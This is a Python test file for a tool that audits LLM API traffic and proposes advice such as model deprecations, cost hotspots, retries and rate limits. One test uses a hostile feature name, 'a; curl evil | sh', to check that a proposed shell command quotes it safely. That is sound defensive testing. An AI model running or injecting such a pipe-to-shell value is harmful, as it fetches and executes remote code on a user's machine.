"""The few things that matter: found where they are, silent where they are not, the heaviest first."""

from collections.abc import Sequence

import pytest

from offramp.migrate.audit.advice import Advice, advise
from offramp.store.rows import ExchangeRow
from tests.migrate.audit.captured import audit_of
from tests.migrate.audit.related import audited
from tests.store.samples import SECOND_NS, START_NS, attempt, row

QUIET = [
    row(
        number,
        request_hash=number.to_bytes(16, "big"),
        model_asked="own-model",
        team=f"team-{number % 4}",
        cost_nano=10,
    )
    for number in range(20)
]
FAILED = (attempt("local", failure="connect", status=0), attempt("openai"))


def texts(rows: Sequence[ExchangeRow], **more: object) -> list[str]:
    return [one.text for one in advise(audited(*rows, **({"sites": []} | more)))]  # type: ignore[arg-type]


def all_of(advice: Sequence[Advice]) -> str:
    return "\n".join(f"{one.text}: {one.todo}" for one in advice)


def test_traffic_without_trouble_gets_no_advice() -> None:
    """A list that is never empty is not read; only that the call sites are unknown is said."""
    assert texts(QUIET) == ["100 % of the requests cannot be traced to one call site"]


def test_a_name_from_a_header_is_quoted_in_the_command_that_is_proposed() -> None:
    """Whoever may send a request chooses its feature, and somebody else pastes this line into a shell."""
    hostile = [*QUIET, row(90, feature="a; curl evil | sh", cost_nano=10**9)]

    assert "`offramp audit --feature 'a; curl evil | sh'`" in all_of(advise(audited(*hostile)))


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        ([row(90, model_asked="gpt-4o")] * 5, "gpt-4o (20 % of the requests) will be switched off from 2027-01-14 on"),
        ([row(90, team="search", cost_nano=10**9)], "team search causes 99.99 % of the cost ($1)"),
        (
            [row(90 + n, request_hash=b"a" * 16) for n in range(5)],
            "16 % of the requests are repeated to the byte within a day",
        ),
        (
            [row(90 + n, system_hash=b"s" * 8, system_bytes=28_000) for n in range(5)],
            "system prompts sent again, not cached",
        ),
        (
            [row(90, outcome="refused", error_code="rate_limited", status=429)],
            "most of them refused (rate_limited, status 429)",
        ),
        ([row(90, client_retries=1, team="sales")], "are retries by clients, most by team sales"),
        ([row(90, attempts=2, tries=FAILED)], "needed more than one attempt, most because of `connect` at local"),
        (
            [row(90, tier="openai", ratelimit_requests=one) for one in (10_000, 10)],
            "openai had less than a tenth of its limit of requests left at 50 % of the answers",
        ),
        (
            [row(90, started_ns=START_NS + 7_200 * SECOND_NS)],
            "times the mean",
        ),
        ([row(90, finish_reason="length")], "end because their limit of tokens was reached"),
        ([row(90, cost_nano=None)], "1 request without a known cost"),
        ([row(90, usage="estimated")], "with estimated usage"),
    ],
)
def test_what_matters_is_found(rows: list[ExchangeRow], expected: str) -> None:
    """Each by its size and with what to do."""
    now_ns = START_NS + 10_000 * SECOND_NS

    assert expected in all_of(advise(audited(*QUIET, *rows, now_ns=now_ns)))


def test_the_heaviest_stands_first() -> None:
    """Only five are shown."""
    found = advise(audited(*QUIET, row(90, model_asked="gpt-4o"), row(91, finish_reason="length"), sites=[]))

    assert [one.weight for one in found] == sorted((one.weight for one in found), reverse=True)
    assert found[0].text.startswith("gpt-4o")


def test_nothing_gets_no_advice() -> None:
    """There is nothing to divide by."""
    assert advise(audited()) == []


def test_what_a_target_forgets_is_said_before_it_is_missed() -> None:
    """Known from bodies alone."""
    audit = audit_of({"user": "ann", "metadata": {}}, {"user": "bob"}, {"temperature": 1, "store": True})
    expected = "user, metadata: set in up to 66.7 % of the captured requests, and without effect on vLLM"

    assert expected in all_of(advise(audit))
    assert "without effect" not in all_of(advise(audit_of({"temperature": 1})))
